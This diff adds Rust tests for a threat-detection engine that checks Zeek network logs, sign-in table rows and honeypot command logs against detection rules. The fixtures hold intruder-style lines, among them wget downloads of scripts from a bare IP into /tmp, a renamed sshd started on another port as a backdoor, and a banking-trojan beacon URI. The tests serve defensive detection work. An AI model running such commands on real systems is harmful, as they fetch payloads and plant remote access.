@@ -1,0 +1,66 @@
+//! What the network shows, and what the rows of tables are held against.
+
+use std::collections::BTreeMap;
+
+use super::super::facet::{Facet, Facets};
+use super::all;
+
+type Map = BTreeMap<String, String>;
+
+#[test]
+fn programs_under_other_names_and_on_other_hosts_are_seen_on_the_network() {
+    let zeek = |names: &str, row: &str| {
+        let fields: Map = names.split(' ').zip(row.split('\t')).map(|(k, v)| (k.to_owned(), v.to_owned())).collect();
+        let facets = Facets::read(&fields, row);
+        let lower = facets.get(Facet::Text).unwrap_or_default().to_lowercase();
+        all().iter().filter(|b| b.matches(&facets, &lower)).map(|b| b.id.as_str()).collect::<Vec<_>>()
+    };
+    const HTTP: &str = "ts uid id.orig_h id.resp_h method host uri status_code resp_mime_types";
+    let shown = zeek(HTTP, "1\tCx1\t10.0.0.7\t192.0.2.9\tGET\t192.0.2.9\t/a.png\t200\tapplication/x-dosexec");
+    assert!(shown.contains(&"executable-behind-other-name"), "{shown:?}");
+    let shown = zeek(HTTP, "1\tCx1\t10.0.0.7\t192.0.2.9\tGET\t192.0.2.9\t/a.exe\t200\tapplication/x-dosexec");
+    assert!(!shown.contains(&"executable-behind-other-name"), "{shown:?}");
+    let bot =
+        "1\tCx1\t10.0.0.7\t192.0.2.9\tPOST\t192.0.2.9\t/ser11/PC-7_W617601.A58868686B1A88CAB32C4D4AC9CB2738/83/\t-\t-";
+    assert!(zeek(HTTP, bot).contains(&"banking-trojan-report"));
+    const FILES: &str = "ts fuid id.orig_h id.resp_h source analyzers mime_type filename";
+    let at = |path: &str| {
+        zeek(FILES, &format!("1\tFx1\t10.0.0.7\t10.0.0.5\tSMB\tPE\tapplication/x-dosexec\t{path}"))
+            .contains(&"program-into-share-of-administrators")
+    };
+    assert!(at(r"\\WINDOWS\\4k.exe") && at(r"Windows\Temp\a.dll"));
+    assert!(!at(r"corp.local\Policies\{31B2F340}\a.exe") && !at(r"\\tools\\windows.exe"));
+}
+
+#[test]
+fn a_row_of_a_table_says_what_its_cells_are() {
+    let names = "CreatedDateTime UserPrincipalName IPAddress AuthenticationProtocol AppDisplayName ResultType";
+    let row = "2026-06-15T15:50:16Z,mara@example.org,192.0.2.9,deviceCode,Broker,0";
+    let fields: Map = names.split(' ').zip(row.split(',')).map(|(k, v)| (k.to_owned(), v.to_owned())).collect();
+    let facets = Facets::read(&fields, row);
+    let text = facets.get(Facet::Text).unwrap();
+    assert!(text.contains("\nAuthenticationProtocol=deviceCode"), "{text}");
+    let json = r#"{"CreatedDateTime":"x","UserPrincipalName":"m","IPAddress":"1.2.3.4","ResultType":"0"}"#;
+    let fields: Map = serde_json::from_str(json).unwrap();
+    assert_eq!(Facets::read(&fields, json).get(Facet::Text), Some(json));
+}
+
+#[test]
+fn what_intruders_type_is_told_from_what_administrators_type() {
+    let typed = |command: &str| {
+        let fields: Map = [("eventid", "cowrie.command.input"), ("input", command), ("session", "abc60b61c358")]
+            .map(|(k, v)| (k.to_owned(), v.to_owned()))
+            .into();
+        let facets = Facets::read(&fields, command);
+        let lower = command.to_lowercase();
+        all().iter().filter(|b| b.matches(&facets, &lower)).map(|b| b.id.as_str()).collect::<Vec<_>>()
+    };
+    let sshd = "linux-sshd-under-other-name";
+    assert!(typed("ln -sf /usr/sbin/sshd /tmp/su;/tmp/su -oPort=1987").contains(&sshd));
+    assert!(!typed("cp /usr/sbin/sshd /root/sshd.bak").contains(&sshd));
+    let fetched = "linux-download-into-temp-from-address";
+    assert!(typed("wget -P/tmp http://192.0.2.18/xcsyn").contains(&fetched));
+    assert!(typed("cd /tmp; wget http://192.0.2.18/bins.sh").contains(&fetched));
+    assert!(!typed("wget -P/tmp https://example.org/a.tgz").contains(&fetched));
+    assert!(!typed("wget http://192.0.2.18/a.tgz").contains(&fetched));
+}
